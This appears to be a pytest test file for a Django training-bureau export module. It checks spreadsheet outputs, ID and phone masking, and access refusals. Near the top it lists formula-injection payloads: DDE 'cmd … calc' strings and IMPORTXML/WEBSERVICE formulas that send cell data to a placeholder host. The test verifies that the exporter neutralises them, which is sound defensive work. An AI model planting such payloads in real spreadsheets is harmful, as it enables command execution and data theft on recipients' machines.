"""The forms of the bureau: each declared once, written alike as xlsx, csv and print, and nothing typed is a formula."""

import csv
import io
from dataclasses import replace
from datetime import date, datetime, timedelta

import pytest
from django.core.files.base import ContentFile
from django.utils import translation
from openpyxl import load_workbook

from courses import attendance, certificates, completion, exports, merging, privacy, supervision, works
from courses import policy as policies
from courses.attendance import Mark
from courses.exports import FORMS, Ask, Book, ExportRefusal, ExportRefused, Sheet, Wanted
from courses.exports import Mark as Stamp
from courses.exports.writing import write_csv, write_xlsx
from courses.models import (
    CallBackLine,
    Completion,
    CountEntry,
    Enrolment,
    Export,
    FollowUp,
    Learner,
    Lesson,
    OpeningFile,
    RoomCount,
    TrainingClass,
)
from courses.tally import ReportLocked, record_check
from tests.courses.exports.conftest import NUMBER, read
from tests.factories import catalogue, papers, people
from tests.factories.certificates import approved, issued
from tests.factories.classes import enrolled, first_lesson, training_class
from tests.factories.completion import counted, submitted

pytestmark = pytest.mark.django_db

BEGINS = ("=", "+", "-", "@", "\t=", "\r=", " =", "\u3000=", "＝", "＋", "|", "%")
FORMULAS = (
    '{}cmd|" /C calc"!A0', '{}HYPERLINK("http://x","y")', "{}1+1", "{}SUM(A1:A9)", '{}DDE("x";"y";"z")',
    '{}IMPORTXML(CONCAT("http://x",A1),"//a")', "{}WEBSERVICE(A1)", '{}2+5+cmd|" /C calc"!A0', "{}A1",
)  # fmt: skip
PAYLOADS = [formula.format(begin) for begin in BEGINS for formula in FORMULAS]


def test_a_hundred_payloads_are_inert_in_xlsx_and_csv(now, city) -> None:
    assert len(PAYLOADS) >= 100
    book = Book("x", [Sheet("x", ["值"], [[text] for text in PAYLOADS])])
    file, rows = write_xlsx(book, Stamp(city, now))
    assert rows == len(PAYLOADS)
    with file:
        cells = [row[0] for row in load_workbook(file)["x"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    # A carriage return is escaped in the file, which this reader leaves as it is.
    assert [cell.value.replace("_x000D_", "\r") for cell in cells] == PAYLOADS
    file, _rows = write_csv(book, Stamp(city, now))
    with file:
        text = file.read()
    assert text.startswith(b"\xef\xbb\xbf")
    read_back = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))[1 : 1 + len(PAYLOADS)]
    assert read_back == [[f"'{payload}"] for payload in PAYLOADS]


def test_digits_that_a_spreadsheet_would_round_or_shorten_stay_in_csv_and_numbers_stay_numbers(now, city) -> None:
    book = Book("x", [Sheet("x", ["值"], [["370602199102030071"], ["007"], ["19900000001"], [12], ["0"]])])
    file, _rows = write_csv(book, Stamp(city, now))
    with file:
        lines = file.read().decode("utf-8-sig").splitlines()
    assert lines[:6] == ["值", "'370602199102030071", "'007", "19900000001", "12", "0"]


@pytest.fixture
def held(now) -> TrainingClass:
    """A class of two lessons: one learner came to both, one was late and then ill."""
    made = training_class(now=now - timedelta(days=9), first=now - timedelta(days=6), minutes=90)
    for name in ("孙小海", "王大山"):
        enrolled(training_class=made, now=now - timedelta(days=9), learner=people.learner(now=now, name=name))
    first, last = made.lessons.order_by("number")
    by = first.trainer or made.trainers.first()
    hai, shan = Learner.objects.get(name="孙小海"), Learner.objects.get(name="王大山")
    for lesson, learner, word in ((first, hai, Mark.PRESENT), (last, hai, Mark.PRESENT), (first, shan, Mark.LATE)):
        at = lesson.starts_at + timedelta(minutes=45 if word == Mark.LATE else 0)
        attendance.mark(by=by, lesson=lesson, learner=learner, as_=word, reason="no_phone", now=at)
        attendance.mark(by=by, lesson=lesson, learner=learner, as_=Mark.OUT, reason="no_phone", now=lesson.ends_at)
    attendance.mark(by=by, lesson=last, learner=shan, as_=Mark.SICK, reason="other", now=last.ends_at)
    return made


def table(form: str, by, now: datetime, **filters) -> list[dict]:
    """The first sheet's rows by heading."""
    sheet = FORMS[form].build(Ask(by, now, filters)).sheets[0]
    return [dict(zip(sheet.header, [str(cell) for cell in row], strict=True)) for row in sheet.rows]


def test_a_the_roster_holds_the_members_with_masked_numbers(now, city, roster) -> None:
    (line,) = table("a", city, now, **{"class": roster.number})
    assert (line["姓名"], line["证件号码"], line["年龄"]) == ("=1+1", privacy.mask_id(NUMBER), "31-40")
    assert (line["班级编号"], line["职业（工种）"], line["学员签名"]) == (roster.number, "中式烹调师", "")


def test_no_masked_form_holds_a_whole_date_of_birth_beside_the_ends_of_a_number(now, city) -> None:
    born = date(1991, 2, 3)
    learner = people.learner(now=now, name="孙小海", document=NUMBER)
    Learner.objects.filter(pk=learner.pk).update(born_on=born)
    entry, _later = counted(now=now - timedelta(days=9), learner=learner)
    filters = {"class": entry.class_number, "lesson": 1, "year": 2026, "month": 9}
    days = {"1991-02-03", "19910203", "1991年2月3日", "1991", NUMBER}
    masked = []
    for key, form in FORMS.items():
        cells = {
            str(cell) for sheet in form.build(Ask(city, now, filters)).sheets for row in sheet.rows for cell in row
        }
        masked += [key] if privacy.mask_id(NUMBER) in cells else []
        assert not days & cells, key
    assert masked == ["a", "f", "g"]
    file = exports.take(by=city, wanted=Wanted("a", "csv", {"class": entry.class_number}), now=now).file
    assert file
    with file:
        text = file.read().decode()
    assert privacy.mask_id(NUMBER) in text
    assert not [day for day in days if day in text]
    (line,) = table("a", city, now, **{"class": entry.class_number})
    assert (line["出生日期"], line["年龄"]) == ("", "31-40")
    whole = FORMS["a"].build(Ask(city, now, {"class": entry.class_number}, full=True)).sheets[0]
    assert {"1991-02-03", NUMBER} <= {str(cell) for cell in next(iter(whole.rows))}


def test_a_learner_whose_record_was_merged_stands_with_the_document_of_the_kept_one(now, city, roster) -> None:
    merged, kept = Learner.objects.get(name="=1+1"), people.learner(now=now)
    after = datetime.combine(roster.ends_on + timedelta(days=1), now.timetz())
    proposal = merging.propose_merge(by=people.user(), kept=kept, merged=merged, reason="核对", now=after)
    merging.confirm_merge(by=people.user(), proposal=proposal, now=after)
    (line,) = table("a", city, after, **{"class": roster.number})
    assert line["证件号码"] == privacy.mask_id(kept.documents.get(until__isnull=True).number)


def test_b_the_sign_in_sheet_says_who_came_how_and_what_it_adds_up_to(now, city, held) -> None:
    sheet = FORMS["b"].build(Ask(city, now, {"class": held.number, "lesson": 1})).sheets[0]
    rows = [[str(cell) for cell in row] for row in sheet.rows]
    assert [(row[1], row[3], row[4], row[5], row[6]) for row in rows] == [
        ("孙小海", "09:00", "10:30", "人工", "出勤"),
        ("王大山", "09:45", "10:30", "人工", "迟到"),
    ]
    assert [row[2] for row in rows] == [
        Learner.objects.get(name=name).documents.get().number[-4:] for name in ("孙小海", "王大山")
    ]
    assert [str(value) for _words, value in sheet.foot[:6]] == ["2", "2", "0", "0", "0", "100.0%"]
    with pytest.raises(ExportRefused) as refused:
        FORMS["b"].build(Ask(city, now, {"class": held.number, "lesson": 3}))
    assert refused.value.code == ExportRefusal.NO_LESSON


def test_c_the_summary_marks_each_lesson_and_adds_up_minutes(now, city, held) -> None:
    hai, shan = table("c", city, now, **{"class": held.number})
    days = [key for key in hai if "#" in key]
    assert [hai[day] for day in days] == ["√", "√"]
    assert [shan[day] for day in days] == ["迟", "病"]
    names = ("应出勤课时", "实际出勤课时", "请假", "迟到", "早退", "缺勤", "出勤率", "是否达标")
    assert [hai[name] for name in names] == ["4", "4", "0", "0", "0", "0", "100.0%", "达标"]
    assert [shan[name] for name in names] == ["4", "1", "1", "1", "0", "0", "25.0%", "未达标"]


def test_d_the_application_says_what_was_asked_and_what_was_answered(now, city, roster) -> None:
    said = {line["项目"]: line["内容"] for line in table("d", city, now, **{"class": roster.number})}
    assert (said["培训机构"], said["计划人数"], said["所属区市"]) == ("市技师学院", "30", "芝罘区")
    assert said["统一社会信用代码"] == roster.institution.credit_code
    assert said["审核意见"].startswith("已批准 2026-09-14")


def test_d_names_the_files_that_were_handed_in_and_are_still_kept(now, city, roster) -> None:
    def files() -> str:
        said = {line["项目"]: line["内容"] for line in table("d", city, now, **{"class": roster.number})}
        return said["附件清单"]

    assert files() == "没有附件"
    for number, (paper, kind) in enumerate((("plan", "pdf"), ("plan", "pdf"), ("materials", "jpeg"))):
        OpeningFile.objects.create(
            code=f"F{number}", training_class=roster, paper=paper, kind=kind, size=9, file=f"f{number}",
            digest=f"{number}", uploaded_by=city, uploaded_at=now,
        )  # fmt: skip
    assert files() == "教学计划：PDF 文件 2 份；教材：照片 1 份"
    OpeningFile.objects.filter(paper="plan").update(deleted_at=now)
    assert files() == "教材：照片 1 份"


def test_e_the_timetable_holds_every_lesson_cancelled_ones_too(now, city, roster) -> None:
    Lesson.objects.filter(training_class=roster, number=2).update(status=Lesson.Status.CANCELLED)
    lines = table("e", city, now, **{"class": roster.number})
    assert [(line["课次"], line["上课日期"], line["课时"], line["状态"]) for line in lines] == [
        ("1", "2026-09-15", "4", "按计划"),
        ("2", "2026-09-16", "4", "已取消"),
    ]


def test_f_who_completed_stands_with_the_certificate_that_holds(now, city) -> None:
    certificate = issued(now=now)
    made = certificate.completion.enrolment.training_class
    approved(now=now, a_class=made, learner=people.learner(now=now, name="孙小海"))
    taken = exports.take(by=city, wanted=Wanted("f", "csv", {"class": made.number}), now=now)
    assert taken.file
    taken.file.close()
    assert exports.take(by=city, wanted=Wanted("f", "csv", {"year": 2026}), now=now).export.status == "queued"
    first, second_row = table("f", city, now, **{"class": made.number})
    assert (first["证书编号"], first["发证日期"], first["结论"]) == (certificate.number, "2026-09-14", "合格")
    assert (second_row["姓名"], second_row["证书编号"]) == ("孙小海", "")


def test_f_tells_what_other_issuers_gave_but_for_what_was_taken_back(now, city) -> None:
    done = approved(now=now)
    for number in ("Y0037060543", "Y0037060544"):
        made = certificates.record(
            by=people.user(), completion=done, kind="level", number=number, level=None,
            issued_on=date(2026, 9, 15), issuer="市职业技能鉴定中心", now=now + timedelta(days=7),
        )  # fmt: skip
    certificates.take_back_external(by=people.user(), certificate=made, reason="登记错了", now=now)
    (line,) = table("f", city, now, **{"class": done.enrolment.training_class.number})
    assert line["别处发的证书"] == "职业技能等级证书 Y0037060543 2026-09-15 市职业技能鉴定中心"


def test_f_tells_what_the_newest_judged_business_plan_is_worth(now, city) -> None:
    done = approved(now=now)
    own = done.enrolment
    TrainingClass.objects.filter(pk=own.training_class_id).update(policy=_asks_for_a_plan(own.training_class.kind_key))
    own.training_class.refresh_from_db()
    number = {"class": own.training_class.number}
    assert [line["创业计划书等级"] for line in table("f", city, now, **number)] == [""]
    for grade, word in (("fail", "不合格"), ("excellent", "优秀")):
        plan = works.hand_in_plan(enrolment=own, content=ContentFile(papers.pdf()), by=own.learner.user, now=now)
        works.judge(by=people.user(), work=plan, grade=grade, note="缺成本测算", now=now)
        assert [line["创业计划书等级"] for line in table("f", city, now, **number)] == [word]


def _asks_for_a_plan(kind: str):
    document = {**policies.DEFAULTS, "assessments": {kind: ["plan"]}}
    return policies.publish(by=None, number="v2", effective_on=date(2026, 1, 1), document=document)


def test_g_only_what_stands_in_the_ledger_is_handed_over(now, city) -> None:
    entry, _later = counted(now=now - timedelta(days=9))
    approved(now=now)  # approved, and nothing was posted for it
    (line,) = table("g", city, now, year=2026, month=9)
    assert (line["班级编号"], line["出勤率"]) == (entry.class_number, "100.0%")
    assert table("g", city, now, year=2026, month=8) == []


def test_g_takes_month_and_district_from_the_ledger_as_the_tally_does(now, city) -> None:
    """A class that ended in September and counts by its approval in October; its district is another by now."""
    done, later = submitted(now=now, policy=catalogue.policy("by-approval", count_date="approval"))
    completion.approve(by=people.user(), completion=done, now=later + timedelta(days=30))
    counted(now=now)
    moved = done.enrolment.training_class
    TrainingClass.objects.filter(pk=moved.pk).update(district=catalogue.district("laishan", "莱山区", "370613"))
    for month, place, classes in ((9, "", 1), (10, "", 1), (10, "zhifu", 1), (10, "laishan", 0), (None, "zhifu", 2)):
        asked = Ask(city, later, {"year": 2026, "month": month, "district": place})
        book = FORMS["g"].build(asked)
        entries = CountEntry.objects.filter(year=2026, **({"month": month} if month else {}))
        told = entries.filter(district=place).count() if place else entries.count()
        assert (len(list(book.sheets[0].rows)), book.total, told) == (classes, classes, classes), (month, place)
    (line,) = table("g", city, now, year=2026, month=10)
    assert line["班级编号"] == moved.number


def test_h_the_districts_tell_the_figures_of_the_tally(now, city) -> None:
    entry, _later = counted(now=now - timedelta(days=9))
    (line,) = [line for line in table("h", city, now, year=2026) if line["区市"] == "芝罘区"]
    names = ("职业技能培训合格人次", "职业技能培训合格人数", "创业培训合格人次", "获证人次")
    assert [line[name] for name in names] == ["1", "1", "0", "0"]
    ledger = FORMS["h"].build(Ask(city, now, {"year": 2026})).sheets[1]
    row = dict(zip(ledger.header, next(iter(ledger.rows)), strict=True))
    assert (row["班级编号"], row["人数"], row["合格数"], row["出勤率"]) == (entry.class_number, 1, 1, "100.0%")


def test_h_tells_the_whole_city_where_heads_are_not_the_sum_of_the_districts(now, city) -> None:
    learner = people.learner(now=now)
    _entry, later = counted(now=now - timedelta(days=9), learner=learner)
    laishan = catalogue.district("laishan", "莱山区", "370613")
    baker = catalogue.course(occupation=catalogue.occupation("baker"))
    counted(now=later, learner=learner, course=baker, district=laishan)
    rows = {line["区市"]: line for line in table("h", city, now, year=2026)}
    name = "职业技能培训合格人"
    assert [(rows[place][f"{name}次"], rows[place][f"{name}数"]) for place in ("芝罘区", "莱山区", "全市")] == [
        ("1", "1"),
        ("1", "1"),
        ("2", "1"),
    ]
    officer = people.staff(role="district", now=now, district=laishan)
    assert [line["区市"] for line in table("h", officer, now, year=2026)] == ["莱山区"]


def test_h_tells_certificates_by_kind_and_kinds_beside_the_targets_apart(now, city) -> None:
    own = catalogue.course(kind=catalogue.kind("tot", "own", "tot", letter="T"))
    for course in (None, own):
        done, later = submitted(now=now - timedelta(days=9), **({"course": course} if course else {}))
        completion.approve(by=people.user(), completion=done, now=later)
        certificates.issue(by=people.user(), completion=done, now=later)
    TrainingClass.objects.update(status=TrainingClass.Status.RUNNING)
    enrolled(training_class=training_class(now=now, course=own), now=now)
    for line in table("h", city, now, year=2026):
        if line["区市"] in ("芝罘区", "全市"):
            names = (
                "开班数",
                "报名人次",
                "获证人次",
                "获证：职业技能培训",
                "单列开班数",
                "单列报名人次",
                "单列获证人次",
            )
            assert [line[name] for name in names] == ["1", "0", "1", "1", "1", "1", "1"]


def test_h_is_of_the_whole_year_whatever_month_was_said(now, city) -> None:
    """Its figures are the year's, so its classes and certificates are too."""
    counted(now=now - timedelta(days=9))
    TrainingClass.objects.update(status=TrainingClass.Status.RUNNING)
    whole, narrowed = (FORMS["h"].build(Ask(city, now, {"year": 2026, **more})) for more in ({}, {"month": 3}))
    of_classes = [[list(row) for row in book.sheets[1].rows] for book in (whole, narrowed)]
    assert (len(of_classes[0]), of_classes[1]) == (1, of_classes[0])
    assert table("h", city, now, year=2026, month=3) == table("h", city, now, year=2026)
    (line,) = [line for line in table("h", city, now, year=2026, month=3) if line["区市"] == "芝罘区"]
    assert (line["开班数"], line["职业技能培训合格人次"]) == ("1", "1")
    taken = exports.take(by=city, wanted=Wanted("h", "print", {"year": 2026, "month": 3}), now=now)
    assert taken.export.filters == {"year": 2026}


def test_h_is_locked_after_a_drift_and_no_institutions(now, city) -> None:
    school = people.staff(role="institution", now=now, institution=catalogue.institution())
    with pytest.raises(ExportRefused) as refused:
        FORMS["h"].build(Ask(school, now, {"year": 2026}))
    assert refused.value.code == ExportRefusal.NOT_YOURS
    record_check(differences=1, now=now)
    with pytest.raises(ReportLocked):
        FORMS["h"].build(Ask(city, now, {"year": 2026}))


@pytest.mark.parametrize("form", ["f", "g", "entries"])
def test_what_is_counted_leaves_in_no_form_after_a_drift(form, now, city) -> None:
    record_check(differences=0, now=now)
    assert FORMS[form].build(Ask(city, now, {"year": 2026})).total == 0
    record_check(differences=1, now=now)
    with pytest.raises(ReportLocked):
        FORMS[form].build(Ask(city, now, {"year": 2026}))


def test_i_the_counts_of_heads_stand_with_what_the_register_said(now, city, held) -> None:
    lesson = first_lesson(held)
    RoomCount.objects.create(
        lesson=lesson, counted=1, register_here=2, register_awaiting=0, due=2, by=city, at=lesson.starts_at
    )
    (line,) = table("i", city, now, year=2026, month=9)
    assert [line[name] for name in ("应到", "签到在场", "清点实到", "相差")] == ["2", "2", "1", "-1"]
    assert table("i", city, now, year=2026, month=8) == []


def test_i_whoever_was_missing_or_somebody_else_stands_with_the_conclusion(now, city, held) -> None:
    lesson = first_lesson(held)
    rows = Enrolment.objects.filter(training_class=held).select_related("learner")
    away, other = rows.order_by("arrival_no")
    RoomCount.objects.create(
        lesson=lesson, counted=1, register_here=2, register_awaiting=0, due=2, by=city, at=lesson.starts_at
    )
    number, phone = people.resident_number(), "13812345678"
    said = {"teacher_matches": True, "found": f"一人替课，证件 {number}。", "handling": f"责令整改，电话{phone}"}
    for conclusion, absent in (("mend", []), ("serious", [away.number])):
        inspected = supervision.Inspected(conclusion, absent, [other.number], **said)
        supervision.record_check(by=city, lesson=lesson, inspected=inspected, now=now)
    (line,) = table("i", city, now, year=2026, month=9)
    names = ("缺席名单", "冒名人员", "教师相符", "课程相符", "结论", "发现的情况", "处理")
    masked = [privacy.mask_name(row.learner.name) for row in (away, other)]
    assert [line[name] for name in names] == [
        *masked,
        "是",
        "",
        "问题严重",
        f"一人替课，证件 {privacy.mask_id(number)}。",
        "责令整改，电话138****5678",
    ]
    whole = FORMS["i"].build(Ask(city, now, {"year": 2026, "month": 9}, full=True)).sheets[0]
    (row,) = [dict(zip(whole.header, row, strict=True)) for row in whole.rows]
    assert (row["缺席名单"], row["冒名人员"]) == (away.learner.name, other.learner.name)
    assert (row["发现的情况"], row["处理"]) == (said["found"], said["handling"])


def _drawn(now: datetime, made: TrainingClass) -> list[CallBackLine]:
    supervision.draw(training_class=made, now=now)
    return list(CallBackLine.objects.select_related("call_back__training_class", "enrolment__learner"))


def test_i_who_was_called_back_stands_beside_the_register_and_who_was_not_reached_apart(now, city, held) -> None:
    (line,) = _drawn(now, held)
    said = supervision.Answers(is_learner=True, attended=False, days=0, charged=False, satisfaction=2, note="=没去过")
    supervision.answer(by=city, line=line, said=said, now=now)
    book = FORMS["i"].build(Ask(city, now, {"year": 2026, "month": 9}))
    sheet = book.sheets[1]
    (row,) = [dict(zip(sheet.header, [str(cell) for cell in row], strict=True)) for row in sheet.rows]
    names = ("是否本人", "是否参训", "天数", "是否收费", "满意度", "结论", "说明")
    learner = line.enrolment.learner
    assert [row[name] for name in names] == ["是", "否", "0", "否", "2", "不符", "已填"]
    whole = FORMS["i"].build(Ask(city, now, {"year": 2026, "month": 9}, full=True)).sheets[1]
    (all_of_it,) = [dict(zip(whole.header, cells, strict=True)) for cells in whole.rows]
    assert (all_of_it["学员"], all_of_it["电话"], all_of_it["说明"]) == (learner.name, learner.phone, "=没去过")
    assert (row["学员"], row["电话"]) == (privacy.mask_name(learner.name), privacy.mask_phone(learner.phone))
    assert [(str(words), value) for words, value in sheet.foot] == [("相符", 0), ("不符", 1), ("联系不上", 0)]
    assert list(FORMS["i"].build(Ask(city, now, {"year": 2026, "month": 8})).sheets[1].rows) == []


def test_i_an_institution_reads_nothing_of_what_its_learners_said(now, city, held) -> None:
    (line,) = _drawn(now, held)
    supervision.unreachable(by=city, line=line, now=now)
    school = people.staff(role="institution", now=now, institution=held.institution)
    assert [sheet.name for sheet in FORMS["i"].build(Ask(school, now, {"year": 2026})).sheets] == ["检查记录"]
    assert [sheet.name for sheet in FORMS["i"].build(Ask(city, now, {"year": 2026})).sheets] == ["检查记录", "电话回访"]


def ended_in_may(now: datetime) -> Completion:
    done = approved(now=now)
    TrainingClass.objects.filter(pk=done.enrolment.training_class_id).update(
        starts_on=date(2026, 5, 1), ends_on=date(2026, 5, 31)
    )
    supervision.plan_due(now=now)
    return done


def followed_up(done: Completion, now: datetime, said: supervision.Said) -> None:
    needed = ("completion__enrolment__learner", "completion__enrolment__training_class")
    row = FollowUp.objects.select_related(*needed).get(completion=done, months=3)
    supervision.enter(by=people.user(name="陈明"), follow_up=row, said=said, now=now)


def test_j_who_ended_three_months_ago_is_to_be_asked_and_what_they_said_stands_with_who_asked(now, city) -> None:
    done = ended_in_may(now)
    (line,) = table("j", city, now, year=2026, month=8)
    names = ("结业日期", "回访时点", "应回访日期", "就业创业状态", "回访人")
    assert [line[name] for name in names] == ["2026-05-31", "3 个月", "2026-08-31", "", ""]
    assert table("j", city, now, year=2026, month=9) == []
    assert [line["回访时点"] for line in table("j", city, now, year=2026, month=11)] == ["6 个月"]
    said = supervision.Said("business", "海风船务", "91370600MA3C0000X2", date(2026, 8, 1), 4, "想贷款")
    followed_up(done, now, said)
    (line,) = table("j", city, now, year=2026, month=8)
    names = (
        "就业创业状态",
        "单位或企业名称",
        "统一社会信用代码",
        "注册日期",
        "带动就业人数",
        "服务需求",
        "回访人",
        "回访日期",
    )
    assert [line[name] for name in names] == ["已创业", "已填", "已填", "已填", "4", "已填", "陈明", "2026-09-14"]
    whole = FORMS["j"].build(Ask(city, now, {"year": 2026, "month": 8}, full=True)).sheets[0]
    (all_of_it,) = [dict(zip(whole.header, [str(cell) for cell in row], strict=True)) for row in whole.rows]
    assert [all_of_it[name] for name in names] == [
        "已创业", "海风船务", "91370600MA3C0000X2", "2026-08-01", "4", "想贷款", "陈明", "2026-09-14",
    ]  # fmt: skip
    assert all_of_it["学员"] == done.enrolment.learner.name
    other = people.staff(role="institution", now=now, institution=catalogue.institution("J002", "莱山学校"))
    assert table("j", other, now, year=2026, month=8) == []


def test_h_who_works_is_told_apart_by_work_and_business(now, city) -> None:
    first, second, third = (ended_in_may(now) for _ in range(3))
    for done, outcome in ((first, "employed"), (second, "employed"), (third, "business")):
        followed_up(done, now, supervision.Said(outcome, "海风船务"))
    (line,) = [line for line in table("h", city, now, year=2026) if line["区市"] == "芝罘区"]
    assert (line["就业人数"], line["创业人数"]) == ("2", "1")
    (line,) = [line for line in table("h", city, now, year=2025) if line["区市"] == "芝罘区"]
    assert (line["就业人数"], line["创业人数"]) == ("0", "0")


@pytest.mark.parametrize(("form", "month"), [("i", 9), ("j", 8)])
def test_what_comes_after_a_class_is_written_as_xlsx_csv_and_print(now, city, held, form, month) -> None:
    (line,) = _drawn(now, held)
    supervision.answer(by=city, line=line, said=supervision.Answers(is_learner=True, attended=True), now=now)
    followed_up(ended_in_may(now), now, supervision.Said("employed", "=海风"))
    for kind in ("xlsx", "csv", "print"):
        taken = exports.take(by=city, wanted=Wanted(form, kind, {"year": 2026, "month": month}), now=now)
        if taken.file:
            taken.file.close()
    kept = Export.objects.order_by("pk").values_list("kind", "status")
    made = [("xlsx", "given"), ("csv", "given"), ("print", "given")]
    assert list(kept) == (made if form == "i" else [("xlsx", "queued"), ("csv", "queued"), ("print", "given")])
    ask = Ask(city, now, {"year": 2026, "month": month})
    file, rows = write_csv(FORMS[form].build(ask), Stamp(city, now))
    with file:
        text = file.read()
    assert (text[:3], rows) == (b"\xef\xbb\xbf", 1)
    # Where somebody works leaves the house only in full, by two people and as a workbook.
    assert "海风" not in text.decode()
    wanted = Wanted(form, "csv", {"year": 2026, "month": month}, full=True, purpose="核对就业")
    with pytest.raises(ExportRefused) as refused:
        exports.take(by=city, wanted=wanted, now=now)
    assert refused.value.code == ExportRefusal.FULL_IS_XLSX
    asked = exports.take(by=city, wanted=replace(wanted, kind="xlsx"), now=now).export
    assert (asked.status, asked.full) == ("asked", True)


def test_what_a_form_has_no_facts_for_is_named_with_the_reason_and_is_no_empty_column(now, city, roster) -> None:
    file = exports.take(by=city, wanted=Wanted("a", "xlsx", {"class": roster.number}), now=now).file
    assert file is not None
    sheets = read(file)
    about = dict(sheets["口径"][1:])
    assert about["民族"] == "未列：系统不收集，办事也用不到"
    assert "民族" not in sheets["学员花名册"][0]
    for form in FORMS.values():
        assert form.title
    assert [form.letter for form in FORMS.values() if form.letter] == list("ABCDEFGHIJ")


def test_xlsx_csv_and_print_hold_the_same_cells_and_say_who_took_them(now, city, held) -> None:
    taken = {
        kind: exports.take(by=city, wanted=Wanted("c", kind, {"class": held.number}, purpose="归档"), now=now)
        for kind in ("xlsx", "csv", "print")
    }
    assert taken["xlsx"].file
    assert taken["csv"].file
    assert taken["print"].book
    rows = [[str(cell) for cell in row] for row in taken["print"].book.sheets[0].rows]
    with taken["csv"].file as file:
        lines = list(csv.reader(io.StringIO(file.read().decode("utf-8-sig"), newline="")))
    assert lines[1:3] == rows
    with taken["xlsx"].file as file:
        book = load_workbook(file)
        sheet = book["出勤汇总"]
        assert [[str(cell.value) for cell in row] for row in sheet.iter_rows(min_row=2)] == rows
        assert sheet.oddFooter.left.text.startswith("city&&co 2026-09-14 09:00")
        assert sheet.oddHeader.left.text.startswith("city&&co 2026-09-14 09:00")
        about = {row[0].value: row[1].value for row in book["口径"].iter_rows(min_row=2)}
    assert (about["导出人"], about["用途"], about["导出编号"]) == ("city&co", "归档", taken["xlsx"].export.number)
    kept = Export.objects.order_by("pk").values_list("kind", "rows", "purpose", "status", "filters")
    assert list(kept) == [(kind, 2, "归档", "given", {"class": held.number}) for kind in ("xlsx", "csv", "print")]


def test_a_stranger_s_class_is_not_found_and_a_stranger_s_rows_are_not_in_it(now) -> None:
    entry, later = counted(now=now - timedelta(days=9))
    other = people.staff(role="institution", now=now, institution=catalogue.institution("J002", "莱山学校"))
    with pytest.raises(ExportRefused) as refused:
        FORMS["a"].build(Ask(other, later, {"class": entry.class_number}))
    assert refused.value.code == ExportRefusal.NO_CLASS
    assert [table(form, other, later, year=2026) for form in ("f", "g", "i", "entries")] == [[], [], [], []]
    assert CountEntry.objects.count() == 1


def test_an_unknown_kind_and_a_period_that_is_none_are_refused(now, city) -> None:
    for wanted, code in (
        (Wanted("a", "docx", {}), ExportRefusal.UNKNOWN_KIND),
        (Wanted("zz", "xlsx", {}), ExportRefusal.UNKNOWN_KIND),
        (Wanted("i", "xlsx", {"year": 1999}), ExportRefusal.NO_PERIOD),
        (Wanted("i", "xlsx", {"year": 2026, "month": 13}), ExportRefusal.NO_PERIOD),
        (Wanted("monthly", "xlsx", {"year": 2026}), ExportRefusal.NO_PERIOD),
    ):
        with pytest.raises(ExportRefused) as refused:
            exports.take(by=city, wanted=wanted, now=now)
        assert refused.value.code == code
    assert not Export.objects.exists()


def test_every_form_is_written_in_english(now, city) -> None:
    entry, _later = counted(now=now - timedelta(days=9))
    filters = {"class": entry.class_number, "lesson": 1, "year": 2026, "month": 9}
    with translation.override("en"):
        for key, form in FORMS.items():
            book = form.build(Ask(city, now, filters))
            file, _rows = write_xlsx(book, Stamp(city, now))
            with file:
                named = load_workbook(file, read_only=True).sheetnames
            assert [name for name in named if not name.isascii()] == [], key
